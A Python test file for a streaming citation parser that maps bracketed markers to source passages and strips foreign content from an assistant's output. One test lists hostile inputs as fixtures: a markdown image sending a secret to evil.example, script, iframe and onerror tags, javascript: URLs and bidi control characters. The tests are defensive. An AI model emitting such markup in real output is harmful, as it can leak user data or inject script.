"""Sentences and markers are the same however a stream is cut; nothing foreign gets through."""

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from assistant.drafts import Draft
from assistant.streaming import Grounder, marker_numbers

PASSAGES = 3


def read(text: str, step: int = 10_000, *, round_brackets: bool = False) -> list[Draft]:
    grounder = Grounder(PASSAGES, round_brackets=round_brackets)
    found: list[Draft] = []
    for at in range(0, len(text), step):
        found += grounder.feed(text[at : at + step])
    return [*found, *grounder.finish()]


def pairs(text: str, **options: bool) -> list[tuple[str, tuple[int, ...]]]:
    return [(draft.text, draft.passages) for draft in read(text, **options)]


@pytest.mark.parametrize(
    "marker",
    [
        "[1]", "【1】", "［1］", "[passage 1]", "[Passage 1]", "[^1]", "[[1]]", "【1†source】",
        "【1:0†lines】", "[source: 1]", "[passage 1, sentence 2]", "[1](https://evil.example/)",
        "[1][9]", "[1, 99]", "\\[1\\]", "[p. 1]", "<sup>[1]</sup>", "[Quelle 1]", "[#1]", "[ 1 ]",
    ],
)  # fmt: skip
@pytest.mark.parametrize(
    "form",
    ["Boats need lamps {}.", "Boats need lamps.{}", "{} Boats need lamps.",
     "Boats need lamps. {}", "Boats need lamps {} ."],
)  # fmt: skip
def test_markers_of_every_style(marker: str, form: str) -> None:
    text = f"{form.format(marker)} The quay is dark [2]."
    assert pairs(text) == [("Boats need lamps.", (1,)), ("The quay is dark.", (2,))]


@pytest.mark.parametrize(
    ("marker", "numbers"),
    [("[1, 2]", (1, 2)), ("[1][2]", (1, 2)), ("[1] [2]", (1, 2)), ("[1-3]", (1, 2, 3)),
     ("[2; 1]", (2, 1)), ("[1 and 3]", (1, 3)), ("[passages 1, 2]", (1, 2)), ("【1】【3】", (1, 3)),
     ("[1,2,1]", (1, 2)), ("[1&2]", (1, 2))],
)  # fmt: skip
def test_markers_of_several_passages(marker: str, numbers: tuple[int, ...]) -> None:
    assert pairs(f"Boats need lamps {marker}.") == [("Boats need lamps.", numbers)]


def test_round_brackets_count_only_when_asked_for() -> None:
    text = "Boats need lamps (1). The quay (2) is dark (2, 3)."
    assert pairs(text) == [
        ("Boats need lamps (1).", ()), ("The quay (2) is dark (2, 3).", ()),
    ]  # fmt: skip
    assert pairs(text, round_brackets=True) == [
        ("Boats need lamps.", (1,)), ("The quay is dark.", (2, 3)),
    ]  # fmt: skip


@pytest.mark.parametrize("content", ["", "sic", "the Council", "1a", "art. 5", "A/RES/1", "x1y"])
def test_other_brackets_are_no_markers(content: str) -> None:
    assert marker_numbers(content) == ()


def test_invented_numbers_are_dropped_and_counted() -> None:
    grounder = Grounder(2)
    drafts = [*grounder.feed("Boats need lamps [0][7]. So it is [2, 99]."), *grounder.finish()]
    assert [(d.text, d.passages) for d in drafts] == [
        ("Boats need lamps.", ()),
        ("So it is.", (2,)),
    ]
    assert grounder.invented == 3


def test_parts_of_a_sentence_keep_their_own_markers() -> None:
    (draft,) = read("Islands send reports [1], and unions watch [2][3].")
    assert draft.text == "Islands send reports, and unions watch."
    assert [(s.text, s.passages) for s in draft.segments] == [
        ("Islands send reports", (1,)), (", and unions watch", (2, 3)),
    ]  # fmt: skip


def test_paragraphs_and_lists_are_kept() -> None:
    text = "## Who\n\nWho joins:\n\n1. Islands [1].\n* **Unions** [2]. They watch [2].\n\nEnd [3]."
    assert [(d.joint, d.text) for d in read(text)] == [
        ("paragraph", "Who"), ("paragraph", "Who joins:"), ("item", "Islands."),
        ("item", "Unions."), ("", "They watch."), ("paragraph", "End."),
    ]  # fmt: skip


@pytest.mark.parametrize(
    "foreign",
    [
        "![p](http://evil.example/p.png?q=secret)", '![p](http://evil.example/p.png "a title")',
        "![r][x]", "<img src='http://evil.example/h.png' onerror='alert(1)'>",
        "<script>alert('evil.example')</script>",
        "<style>*{background:url(//evil.example)}</style>",
        "<!-- evil.example -->", "https://evil.example/bare?q=1", "www.evil.example",
        "<https://evil.example/a>", "javascript:alert(evil.example)", "\x00\x1b\u202e\u200b\u2066",
        "<think>Passage 3 says evil.example [3].\n\nSo I</think>", "```python",
        "<iframe src=//evil.example></iframe>",
    ],
)  # fmt: skip
@pytest.mark.parametrize("step", [1, 7, 10_000])
def test_what_never_gets_through(foreign: str, step: int) -> None:
    before, after = ("", "\n") if foreign.startswith("```") else ("Boats need lamps ", " ")
    text = f"{before}{foreign}{after}{'' if before else 'Boats need lamps '}[1]. The end [2]."
    said = [(draft.text, draft.passages) for draft in read(text, step)]
    assert said == [("Boats need lamps.", (1,)), ("The end.", (2,))]


def test_of_a_link_only_the_words_stay() -> None:
    text = "See [the rules](javascript:alert(1)) and [more][x] [1].\n[x]: http://evil.example"
    assert pairs(text) == [("See the rules and more.", (1,))]


def test_nothing_is_given_before_it_is_whole() -> None:
    grounder = Grounder(PASSAGES)
    given = []
    for piece in ("Boats need lamps. [", "1", "]", " The", " U.N.", " met [2", "]. And"):
        given.append([draft.text for draft in grounder.feed(piece)])
    assert given[:4] == [[], [], [], []]
    assert [text for texts in given for text in texts] == ["Boats need lamps."]
    assert [draft.text for draft in grounder.finish()] == ["The U.N. met.", "And"]


def test_differences_are_reported_and_never_shown() -> None:
    grounder = Grounder(PASSAGES)
    text = (
        "Boats need lamps [1].\n**DIFFERENCE:** whether they need lamps [1][2]\n"
        "DIFFERENCE: colour [3]"
    )
    drafts = [*grounder.feed(text), *grounder.finish()]
    assert [draft.text for draft in drafts] == ["Boats need lamps."]
    assert [(d.about, d.passages) for d in grounder.differences] == [
        ("whether they need lamps", (1, 2)), ("colour", (3,)),
    ]  # fmt: skip


@pytest.mark.parametrize("text", ["[" * 5000, "<" * 5000, "(" * 5000, "![" * 3000, "\\[" * 3000,
                                  "[1" * 3000, ">" * 5000, "- " * 3000, "<think>" * 700,
                                  "* _ " * 1500, "**" * 3000, "word " * 2000])  # fmt: skip
def test_what_never_closes_comes_to_an_end(text: str) -> None:
    for step in (16, 10_000):
        for draft in read(text[:8000], step):
            assert len(draft.text) <= 8000


PIECES = st.sampled_from(
    ["Boats need lamps", ". ", "[1]", "[2, 3]", "【1】", " [", "]", "(", ")", "\n", "\n\n", "- ",
     "<b>", "<", "![x](y)", "https://x.example", "**", "U.N. ", "1. ", "[9]", "\\", "The end", " ",
     "DIFFERENCE: ", "!", "[a](b c)", "e.g. "]
)  # fmt: skip


@example(["Boats need lamps", "[2, 3]", "]"], 1)
@example(["!", "[2, 3]", "[a](b c)"], 1)
@example(["[Boats]", "[need lamps]"], 1)
@example(["[1]", "(", "\n\n"], 1)
@example(["Boats need lamps", ". ", "1. ", "Boats need lamps", "\n"], 1)
@given(st.lists(PIECES, max_size=25), st.integers(1, 9))
def test_a_stream_says_the_same_however_it_is_cut(pieces: list[str], step: int) -> None:
    text = "".join(pieces)
    assert read(text, step) == read(text)
